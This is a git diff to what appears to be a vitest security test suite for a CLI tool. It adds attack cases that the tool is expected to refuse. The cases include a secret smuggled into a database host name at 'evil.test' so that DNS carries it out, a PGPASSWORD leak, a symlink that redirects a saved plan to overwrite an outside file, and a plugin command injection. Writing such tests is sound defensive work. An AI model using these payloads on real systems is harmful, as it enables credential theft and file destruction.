@@ -6,11 +6,11 @@
  */
 
 import { execFileSync } from 'node:child_process';
-import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { type Bait, startBait } from '../support/bait.ts';
-import { certificateYaml, issuerYaml, temporaryFolder, writeFiles } from '../support/cli.ts';
+import { bareEnvironment, certificateYaml, cliFile, issuerYaml, temporaryFolder, writeFiles } from '../support/cli.ts';
 import { type Trace, traced } from '../support/trace.ts';
 
 const SECRET = 'canary-7c41d0e9b6';
@@ -45,6 +45,8 @@ interface Attack {
   readonly sees: (seen: Seen) => boolean;
   /** Where nothing can be reached but what is on the loopback link. */
   readonly alone?: true;
+  /** The command that is attacked saves a plan: that write is its own. */
+  readonly saves?: true;
 }
 
 /** Secrets that a job has in its environment. */
@@ -87,6 +89,12 @@ const reads =
   ({ trace, stage }: Seen): boolean =>
     names.some((name) => trace.reads.includes(join(stage.outside, name)));
 
+/** A project that was applied here before. */
+function storeIn(at: Stage): void {
+  project(plain)(at);
+  execFileSync(process.execPath, [cliFile, 'apply', '--yes'], { cwd: at.repo, env: bareEnvironment(), stdio: 'pipe' });
+}
+
 const storeOrigin = { env: ({ bait }: Stage) => ({ FETTLE_STORE_ORIGIN: `postgres://127.0.0.1:${bait.port}` }) };
 const providerOrigin = {
   env: ({ bait }: Stage) => ({ FETTLE_PROVIDER_ORIGINS: `http://127.0.0.1:${bait.port}` }),
@@ -110,12 +118,15 @@ const attacks: readonly Attack[] = [
     storeOrigin,
     hears,
   ),
-  byEnvironment(
-    'PGPASSWORD, to a host in the parameters of the store',
-    project('name: shop\nstore: "postgres://x@localhost/x?host=127.0.0.1&port=@PORT@"\n'),
-    storeOrigin,
-    hears,
-  ),
+  {
+    name: 'PGPASSWORD, to a host in the parameters of the store',
+    hostile: {
+      files: project('name: shop\nstore: "postgres://x@db.example.test/x?host=127.0.0.1&port=@PORT@"\n'),
+      env: () => ({ FETTLE_STORE_ORIGIN: 'postgres://db.example.test' }),
+    },
+    honest: { files: project('name: shop\nstore: "postgres://x@127.0.0.1:@PORT@/x"\n'), ...storeOrigin },
+    sees: hears,
+  },
   {
     name: 'a secret as a host name, for the server of DNS to hear',
     hostile: { files: project('name: shop\nstore: "postgres://u@${env:HCLOUD_TOKEN}.evil.test/x"\n') },
@@ -380,6 +391,30 @@ const attacks: readonly Attack[] = [
     sees: reads('private.txt'),
   },
   {
+    name: 'a store that came with the checkout, for what it says of ownership',
+    hostile: {
+      files: (at) => {
+        storeIn(at);
+        execFileSync('git', ['-C', at.repo, 'add', '-f', '.fettle']);
+      },
+    },
+    honest: { files: storeIn },
+    sees: ({ trace, stage: at }) => trace.reads.some((path) => path.startsWith(join(at.repo, '.fettle/log'))),
+  },
+  {
+    name: 'a file of the machine, overwritten by the plan that is saved through a link',
+    hostile: {
+      files: (at) => {
+        project(plain)(at);
+        symlinkSync(join(at.outside, 'victim.txt'), join(at.repo, 'plan.json'));
+      },
+      args: ['plan', '-o', 'plan.json'],
+    },
+    honest: { files: project(plain), args: ['plan', '-o', '@OUTSIDE@/victim.txt'] },
+    saves: true,
+    sees: ({ stage: at }) => !readFileSync(join(at.outside, 'victim.txt'), 'utf8').startsWith('precious'),
+  },
+  {
     name: 'a command of his own, at plan',
     hostile: {
       files: project(`${plain}plugins: { certificates: { commands: [[touch, pwned]] } }\n`, {
@@ -415,6 +450,7 @@ function newStage(): Stage {
   execFileSync('git', ['init', '-q', repo]);
   writeFileSync(join(outside, 'private.txt'), `${SECRET}-file: [1, 2\n`);
   writeFileSync(join(outside, 'private.yaml'), `${SECRET}-yaml: 1\n`);
+  writeFileSync(join(outside, 'victim.txt'), 'precious\n');
   mkdirSync(join(outside, 'unguessable-name'));
   writeFileSync(join(outside, 'unguessable-name/x.yaml'), 'a: 1\n');
   bait.heard();
@@ -440,12 +476,12 @@ async function runOf({ files, env, args = ['plan'] }: Run, alone: boolean): Prom
   return { trace, heard: bait.heard(), stage };
 }
 
-describe.each(attacks)('$name', ({ hostile, honest, sees, alone }) => {
+describe.each(attacks)('$name', ({ hostile, honest, sees, alone, saves }) => {
   it('is refused', async () => {
     const seen = await runOf(hostile, alone === true);
     const { trace } = seen;
     expect(sees(seen)).toBe(false);
-    expect([trace.writes, trace.programs]).toEqual([[], []]);
+    expect([saves === true ? [] : trace.writes, trace.programs]).toEqual([[], []]);
     expect(`${trace.ran.stdout}${trace.ran.stderr}`).not.toContain(SECRET);
     expect(seen.heard).not.toContain(SECRET);
   });
